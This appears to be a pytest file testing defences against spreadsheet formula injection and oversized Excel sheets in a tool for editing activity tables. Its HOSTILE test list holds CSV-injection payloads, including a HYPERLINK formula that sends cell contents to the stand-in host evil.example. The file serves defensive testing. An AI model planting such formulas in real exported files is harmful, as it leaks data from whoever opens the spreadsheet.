"""The editors' table files (activity_table.py): formula-like cells are neutralised on export and
read back unchanged, reported on import; Excel files are read as they are, bounded (issue 16,
finding 8). OWASP "CSV injection": a cell starting with = + - @ tab or CR runs as a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from veikart_graph.activity_table import (
    COLUMNS,
    MAX_SHEET_COLUMNS,
    formula_warnings,
    read_table,
    write_csv,
    write_xlsx,
)
from veikart_graph.errors import SourceError

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klikk")', "+1+1", "-2+3", "@SUM(1,2)"]


def rows_with(values: list[str]) -> list[dict[str, str]]:
    return [{**dict.fromkeys(COLUMNS, ""), "id": f"a-{i}", "tittel_nb": value, "kilde": "https://example.org/"}
            for i, value in enumerate(values)]


def test_csv_export_prefixes_formula_like_cells_and_import_reads_them_back(tmp_path: Path):
    path = tmp_path / "aktiviteter.csv"
    path.write_bytes(write_csv(rows_with(HOSTILE)))
    cells = [row["tittel_nb"] for row in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")))]
    assert all(cell.startswith("'") for cell in cells), cells
    _, rows = read_table(path)
    assert [row.cells["tittel_nb"] for row in rows] == HOSTILE


def test_tab_and_carriage_return_starts_are_neutralised_too():
    from veikart_graph.activity_table import neutralised

    assert [neutralised(v) for v in ("\tx", "\rx", "x=1", "")] == ["'\tx", "'\rx", "x=1", ""]


def test_xlsx_export_writes_text_never_a_formula(tmp_path: Path):
    path = tmp_path / "aktiviteter.xlsx"
    path.write_bytes(write_xlsx(rows_with(HOSTILE)))
    sheet = openpyxl.load_workbook(path).worksheets[0]
    titles = [sheet.cell(row=r, column=COLUMNS.index("tittel_nb") + 1) for r in range(2, 2 + len(HOSTILE))]
    assert [c.data_type for c in titles] == ["s"] * len(HOSTILE)
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    _, rows = read_table(path)
    assert [row.cells["tittel_nb"] for row in rows] == HOSTILE


def test_formula_like_cells_are_reported_on_import(tmp_path: Path):
    path = tmp_path / "aktiviteter.csv"
    path.write_text(",".join(COLUMNS) + "\nx,=1+1,,,,,,,,,,,https://example.org/\n", encoding="utf-8")
    _, rows = read_table(path)
    assert formula_warnings(rows) == [
        "row 2, column tittel_nb: begins like a formula ('='); kept as text / "
        "rad 2, kolonne tittel_nb: begynner som en formel; beholdt som tekst"]


@pytest.mark.parametrize("cell,message", [
    ("XFD1048576", "the sheet goes on past row 100000"),  # 7 KB used to pad every row to 16,384 columns
    ("A150000", "the sheet goes on past row 100000"),
    ("XFD2", f"row 2 has values past column {MAX_SHEET_COLUMNS}"),
])
def test_a_far_away_cell_is_refused_naming_where_not_read_into_memory(tmp_path: Path, cell: str, message: str):
    book = openpyxl.Workbook()
    book.active.append(list(COLUMNS))
    book.active[cell] = "x"
    path = tmp_path / "bombe.xlsx"
    book.save(path)
    assert path.stat().st_size < 20_000
    with pytest.raises(SourceError, match=message):
        read_table(path)


def test_a_stale_dimension_tag_drops_no_row(tmp_path: Path):
    path = tmp_path / "aktiviteter.xlsx"
    path.write_bytes(write_xlsx(rows_with([f"Aktivitet {i}" for i in range(5)])))
    stale = tmp_path / "gammel-dimensjon.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(stale, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:M2"', data)
            target.writestr(item, data)
    _, rows = read_table(stale)
    assert [row.cells["tittel_nb"] for row in rows] == [f"Aktivitet {i}" for i in range(5)]
